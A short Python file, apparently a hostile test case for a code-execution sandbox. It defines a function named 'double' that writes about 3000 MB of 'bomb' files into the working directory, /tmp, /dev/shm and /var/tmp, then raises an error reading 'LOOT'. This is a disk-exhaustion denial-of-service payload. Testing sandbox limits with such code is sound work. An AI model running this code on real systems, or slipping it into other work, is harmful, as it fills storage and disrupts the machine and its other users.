"""Fills the disk with files of every kind that it may write."""

# %% double
import time
from pathlib import Path


def double(x):
    block = b"x" * 2**20
    written = 0
    for folder in (".", "/tmp", "/dev/shm", "/var/tmp"):
        for number in range(8):
            try:
                with open(Path(folder, f"bomb-{number}"), "wb", buffering=0) as file:
                    while written < 3000:
                        written += file.write(block) >> 20
            except OSError:
                continue
    time.sleep(2)
    raise RuntimeError(f"LOOT {written} MB")
